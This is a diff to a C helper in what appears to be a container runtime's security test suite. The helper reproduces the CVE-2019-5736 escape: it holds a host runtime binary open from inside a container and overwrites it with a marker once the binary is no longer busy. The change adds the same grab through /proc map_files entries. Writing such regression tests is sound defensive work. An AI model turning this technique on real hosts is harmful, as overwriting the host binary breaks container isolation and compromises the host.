@@ -1,11 +1,13 @@
-/* exe-grabber OUTDIR SECONDS [PID]: the CVE-2019-5736 attacker, run inside a container by
+/* exe-grabber OUTDIR SECONDS [PID [maps]]: the CVE-2019-5736 attacker, run inside a container by
  * tests/integration/security.bats. For SECONDS it watches every process in its /proc (or only PID) whose
  * /proc/N/exe is not a file of its own root (with PID: that one's, whatever it is), keeps that exe open
  * (O_PATH) and, once nothing runs the file any more (ETXTBSY ends), opens it for writing through
  * /proc/self/fd and writes a marker over its first bytes. Appends to OUTDIR/log: "opened DEV:INO" per grab,
  * "wrote DEV:INO" on a successful write, "refused DEV:INO ERRNO" for the last error per file. Static: runs in
  * a bare rootfs. It ends early once OUTDIR/stop exists (a test done with its rounds: on a slow machine
- * SECONDS can then be generous). */
+ * SECONDS can then be generous). With "maps" it also grabs every /proc/PID/map_files entry that is the same
+ * file as the exe ("opened DEV:INO map RANGE"): a mapping of the writable host binary is as good as its exe
+ * to an attacker with CAP_SYS_ADMIN. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -32,7 +34,37 @@ static struct grab grabs[MAX_GRABS];
 static int n_grabs;
 static FILE *out;
 static struct stat self_st, busybox_st;
-static int scan_all; /* no PID given: skip the programs of our own root */
+static int scan_all;  /* no PID given: skip the programs of our own root */
+static int scan_maps; /* "maps": the exe's mappings too */
+
+static void grab_maps(const char *pid, const struct stat *exe)
+{
+	char path[512];
+	struct dirent *e;
+	struct stat st;
+	DIR *d;
+
+	snprintf(path, sizeof path, "/proc/%s/map_files", pid);
+	d = opendir(path);
+	while (d && (e = readdir(d)) != NULL && n_grabs < MAX_GRABS) {
+		int fd;
+		if (e->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, e->d_name);
+		fd = open(path, O_PATH | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		if (fstat(fd, &st) < 0 || st.st_dev != exe->st_dev || st.st_ino != exe->st_ino) {
+			close(fd);
+			continue;
+		}
+		grabs[n_grabs++] = (struct grab){ .fd = fd, .dev = st.st_dev, .ino = st.st_ino };
+		fprintf(out, "opened %lu:%lu map %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino,
+			e->d_name);
+	}
+	if (d)
+		closedir(d);
+}
 
 static double now(void)
 {
@@ -83,6 +115,8 @@ static void try_pid(const char *pid)
 	}
 	grabs[n_grabs++] = (struct grab){ .fd = fd, .dev = st.st_dev, .ino = st.st_ino };
 	fprintf(out, "opened %lu:%lu pid %s\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino, pid);
+	if (scan_maps)
+		grab_maps(pid, &st);
 	fflush(out);
 	/* end it, so only the host's runtime (if any) still keeps the file busy */
 	if (strcmp(pid, "1") != 0)
@@ -122,6 +156,7 @@ int main(int argc, char **argv)
 	stat("/bin/busybox", &busybox_st);
 	end = now() + atof(argv[2]);
 	scan_all = argc <= 3;
+	scan_maps = argc > 4 && strcmp(argv[4], "maps") == 0;
 	fprintf(out, "started\n");
 	fflush(out);
 	while (now() < end && access(stoppath, F_OK) < 0) {
